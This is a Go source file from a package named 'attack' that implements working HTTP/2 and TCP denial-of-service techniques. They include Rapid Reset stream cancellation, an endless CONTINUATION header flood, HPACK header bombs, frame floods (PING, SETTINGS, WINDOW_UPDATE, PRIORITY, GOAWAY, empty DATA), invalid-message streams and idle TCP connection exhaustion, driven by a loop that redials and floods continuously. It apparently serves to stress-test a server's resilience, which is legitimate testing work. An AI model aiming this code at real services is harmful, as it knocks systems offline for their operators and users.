//go:build linux

package attack

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

// The attacks below the protocol: HTTP/2 and TCP.

// flood writes frames as fast as they go, on connections of which there are so many at a time; one that ends is
// replaced.
func flood(conns int, begin func(*raw) error, write func(*raw) error) func(context.Context, *target) (string, error) {
	return func(ctx context.Context, at *target) (string, error) {
		var written, dials atomic.Int64
		var all sync.WaitGroup
		for range conns {
			all.Go(func() {
				for ctx.Err() == nil {
					r, err := dialRaw(ctx, at)
					if err != nil {
						pause(ctx, 10*time.Millisecond)
						continue
					}
					dials.Add(1)
					if begin != nil {
						err = begin(r)
					}
					for err == nil && ctx.Err() == nil {
						err = write(r)
						written.Add(1)
					}
					r.Close()
					<-r.ended
				}
			})
		}
		all.Wait()
		return fmt.Sprintf("%d times on %d connections", written.Load(), dials.Load()), nil
	}
}

// rapidReset opens streams and resets them at once.
func rapidReset(r *raw) error {
	id, err := r.open(deltaMethod)
	if err != nil {
		return err
	}
	return r.locked(func() error { return r.WriteRSTStream(id, http2.ErrCodeCancel) })
}

// opened has a stream before anything else.
func opened(r *raw) error {
	_, err := r.open(deltaMethod)
	return err
}

func pings(r *raw) error {
	return r.locked(func() error { return r.WritePing(false, [8]byte{1}) })
}

func settings(r *raw) error {
	return r.locked(func() error { return r.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16}) })
}

func windowUpdates(r *raw) error {
	return r.locked(func() error { return r.WriteWindowUpdate(r.lastID, 1) })
}

func priorities(r *raw) error {
	return r.locked(func() error { return r.WritePriority(r.lastID, http2.PriorityParam{Weight: 1}) })
}

func emptyData(r *raw) error {
	return r.locked(func() error { return r.WriteData(r.lastID, false, nil) })
}

// continuations is a block of headers that never ends.
func continuations(r *raw) error {
	return r.locked(func() error {
		if r.lastID += 2; r.lastID == 2 {
			r.lastID = 1
		}
		if err := r.WriteHeaders(http2.HeadersFrameParam{StreamID: r.lastID, BlockFragment: []byte{0x82}}); err != nil {
			return err
		}
		for {
			if err := r.WriteContinuation(r.lastID, false, bytes.Repeat([]byte{0x82}, 1<<10)); err != nil {
				return err
			}
		}
	})
}

// headerBombs fills the table of HPACK with one long header, and names it over and over.
func headerBombs(r *raw) error {
	_, err := r.open("/x/y", repeated("bomb", strings.Repeat("b", 3500), 1500)...)
	return err
}

func repeated(name, value string, n int) (headers []string) {
	for range n {
		headers = append(headers, name, value)
	}
	return headers
}

func unknownMethods(r *raw) error {
	_, err := r.open("/no.such.Service/Method")
	return err
}

// goAways says that it goes away, and goes on.
func goAways(r *raw) error {
	return r.locked(func() error { return r.WriteGoAway(0, http2.ErrCodeNo, nil) })
}

// invalid sends what is no message, each on a stream of its own.
func invalid(message []byte) func(*raw) error {
	return func(r *raw) error {
		id, err := r.open(deltaMethod)
		if err != nil {
			return err
		}
		return r.data(id, envelope(message, false))
	}
}

// connects opens TCP connections and says nothing, so many at a time.
func connects(n int) func(context.Context, *target) (string, error) {
	return func(ctx context.Context, at *target) (string, error) {
		held := 0
		for range n {
			c, err := dialTCP(ctx, at)
			if err != nil {
				break
			}
			defer c.Close()
			held++
		}
		<-ctx.Done()
		return fmt.Sprintf("%d connections", held), nil
	}
}
